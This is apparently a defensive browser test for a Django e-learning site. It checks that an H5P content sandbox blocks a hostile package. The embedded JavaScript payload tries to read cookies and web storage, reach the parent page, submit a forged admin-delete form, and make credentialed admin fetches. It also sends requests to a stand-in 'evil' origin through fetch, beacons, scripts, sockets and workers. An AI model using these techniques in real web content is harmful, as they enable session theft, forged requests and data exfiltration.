"""J38: a hostile package tries cookies, parent page, storage, admin POST, other origins.

Nothing is reachable, nothing is sent.
"""

import json
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect
from pytest_django.live_server_helper import LiveServer

from elearning.accounts.models import User
from h5p.django.models import Attempt
from tests import make as site_make
from tests.browser import h5p_content
from tests.browser.conftest import session_of
from tests.h5p.django import make

pytestmark = [
    pytest.mark.django_db(transaction=True, serialized_rollback=True),
    pytest.mark.urls("tests.h5p.django.urls"),
]

# Each attempt gives what it got; what throws or does not answer got nothing.
HOSTILE = """
var H5P = H5P || {};
H5P.Hostile = function (params) {
  H5P.EventDispatcher.call(this);
  var evil = params.evil, own = params.own;
  var frame = document.createElement('iframe');
  function later(promise) {
    return Promise.race([promise, new Promise(function (done) { setTimeout(done, 1500, 'no answer'); })]);
  }
  function listen(target, good, bad) {
    return later(new Promise(function (done, fail) { target[good] = done; target[bad] = fail; }));
  }
  function real(name) { delete window[name]; return window[name]; }
  function add(tag, fields) {
    var made = Object.assign(document.createElement(tag), fields);
    document.body.appendChild(made);
    return listen(made, 'onload', 'onerror').then(function () { return tag + ' loaded'; });
  }
  var tries = {
    cookie: function () { delete document.cookie; return document.cookie; },
    storage: function () { return real('localStorage').getItem('secret'); },
    session: function () { return real('sessionStorage').getItem('secret'); },
    database: function () { return String(indexedDB.open('x')); },
    caches: function () { return caches.keys().then(String); },
    worker: function () { return navigator.serviceWorker.register('/h5p/lib/x.js').then(String); },
    parentPage: function () { return parent.document.title; },
    parentAddress: function () { return parent.location.href; },
    parentVariable: function () { return String(parent.customElements); },
    frameElement: function () { return window.frameElement && window.frameElement.id + 'reached'; },
    topAddress: function () { top.location.href = evil + '/top'; },
    parentMove: function () { parent.location.replace(evil + '/parent'); },
    popup: function () { delete window.open; var made = window.open(evil + '/popup'); return made && 'opened'; },
    linkMessage: function () {
      parent.postMessage({ channel: 'h5p-frame', type: 'link', href: evil + '/link' }, '*');
    },
    form: function () {
      var form = document.createElement('form');
      Object.assign(form, { method: 'post', action: own + '/redakcja/pages/1/delete/', target: '_self' });
      document.body.appendChild(form); form.submit();
    },
    formTop: function () {
      var form = document.createElement('form');
      Object.assign(form, { method: 'post', action: evil + '/form', target: '_top' });
      document.body.appendChild(form); form.submit();
    },
    admin: function () {
      return later(fetch(own + '/redakcja/', { credentials: 'include' })).then(function (r) { return r.status; });
    },
    panel: function () {
      return later(fetch(own + '/panel/', { credentials: 'include', mode: 'no-cors' })).then(function (r) {
        return r.type;
      });
    },
    post: function () {
      return later(fetch(own + '/konto/login/', { method: 'POST', credentials: 'include', body: 'x=1' })).then(
        function (r) { return r.status; }
      );
    },
    elsewhere: function () {
      return later(fetch(evil + '/fetch', { mode: 'no-cors' })).then(function (r) { return r.type; });
    },
    beacon: function () { navigator.sendBeacon(evil + '/beacon', 'x'); },
    image: function () { return add('img', { src: evil + '/image.png' }); },
    script: function () { return add('script', { src: evil + '/script.js' }); },
    style: function () { return add('link', { rel: 'stylesheet', href: evil + '/style.css' }); },
    prefetch: function () { return add('link', { rel: 'prefetch', href: evil + '/prefetch' }); },
    nested: function () { frame.src = evil + '/frame'; document.body.appendChild(frame); },
    written: function () {
      var code = '<img src="' + evil + '/srcdoc.png"><script>fetch("' + evil + '/srcdoc")<\\/script>';
      return add('iframe', { srcdoc: code }).then(function () { return ''; }); // what it asks for, the server knows
    },
    socket: function () { return listen(new WebSocket(evil.replace('http', 'ws') + '/socket'), 'onopen', 'onerror')
      .then(function () { return 'socket open'; }); },
    events: function () { return listen(new EventSource(evil + '/events'), 'onopen', 'onerror')
      .then(function () { return 'events open'; }); },
    inWorker: function () {
      var code = 'fetch("' + evil + '/worker",{mode:"no-cors"}).then(()=>postMessage("sent"),()=>postMessage(""))';
      var made = new Worker(URL.createObjectURL(new Blob([code])));
      return later(new Promise(function (done) { made.onmessage = function (e) { done(e.data); }; }));
    },
    base: function () {
      document.head.appendChild(Object.assign(document.createElement('base'), { href: evil + '/' }));
      return add('img', { src: 'base.png' });
    },
    calls: function () { return typeof window.RTCPeerConnection === 'function' ? 'calls' : ''; }
  };
  this.attach = function ($container) {
    var report = {}, $out = $container.append('<pre id="report"></pre>').find('pre');
    Promise.all(Object.keys(tries).map(function (name) {
      return Promise.resolve().then(tries[name]).then(
        function (got) { report[name] = got === undefined ? '' : got; },
        function () { report[name] = ''; }
      );
    })).then(function () {
      $out.text(JSON.stringify(report));
      $container.append(H5P.jQuery('<button type="button">Odejdź</button>').click(function () {
        window.location.href = evil + '/self';
      }));
    });
  };
};
H5P.Hostile.prototype = Object.create(H5P.EventDispatcher.prototype);
"""
NOTHING = {"", None, "no answer"}


class Stranger(BaseHTTPRequestHandler):
    """Another origin, which writes down every request that reaches it."""

    def do_GET(self) -> None:
        self.server.reached.append(self.path)  # type: ignore[attr-defined]
        self.send_response(204)
        self.end_headers()

    do_POST = do_HEAD = do_OPTIONS = do_GET

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def elsewhere() -> Iterator[ThreadingHTTPServer]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Stranger)
    server.reached = []  # type: ignore[attr-defined]
    thread = Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture
def person(site: object) -> User:
    return site_make.user("Anna", email="anna@example.org", is_staff=True, is_superuser=True)


@pytest.fixture
def page(chromium: Browser, served: LiveServer, person: User) -> Iterator[Page]:
    """A window without the guard: the browser itself reports each of these attempts as an error."""
    context = chromium.new_context(base_url=served.url, locale="pl-PL")
    context.set_default_timeout(15_000)
    context.add_cookies([session_of(person, served.url)])
    context.add_cookies([{"name": "readable", "value": "secret", "url": served.url}])
    yield context.new_page()
    context.close()


def test_a_hostile_package_reaches_nothing(
    page: Page, served: LiveServer, person: User, elsewhere: ThreadingHTTPServer
) -> None:
    evil = f"http://127.0.0.1:{elsewhere.server_port}"
    version = make.version(
        make.library("H5P.Hostile", files={"hostile.js": HOSTILE}), params={"evil": evil, "own": served.url}
    )
    address = h5p_content.address(h5p_content.activity(version))
    page.goto("/h5p/lib/none/none")
    page.evaluate("localStorage.secret = 'secret'; sessionStorage.secret = 'secret'")
    answered: list[str] = []
    page.on("response", lambda response: answered.append(response.url.removeprefix(served.url)))
    page.goto(address)

    frame = h5p_content.frame(page)
    frame.locator("#report:not(:empty)").wait_for()
    report = json.loads(frame.locator("#report").inner_text())

    assert {name: got for name, got in report.items() if got not in NOTHING} == {}
    assert len(report) >= 30
    ours = ("/h5p/", "/static/", "/activity/", "blob:null/", address)
    assert [path for path in answered if not path.startswith(ours)] == []
    check_that_nothing_happened(page, served.url + address, elsewhere)

    # It leaves by itself: the page shuts it out.
    frame.get_by_role("button", name="Odejdź").click()
    expect(page.locator("h5p-player iframe")).to_have_count(0)
    expect(page.get_by_role("main")).to_contain_text("Nie możemy pokazać tej treści")
    check_that_nothing_happened(page, served.url + address, elsewhere)
    assert not Attempt.objects.exclude(user=person).exists()


def check_that_nothing_happened(page: Page, url: str, elsewhere: ThreadingHTTPServer) -> None:
    assert page.url == url
    assert len(page.context.pages) == 1
    assert elsewhere.reached == []  # type: ignore[attr-defined]


def test_the_frame_does_not_open_by_itself(page: Page) -> None:
    activity = h5p_content.activity(make.version())
    page.goto(h5p_content.address(activity))
    source = page.locator("h5p-player iframe").get_attribute("src")
    assert source is not None
    answer = page.goto(source)
    assert answer is not None
    assert answer.status == 403
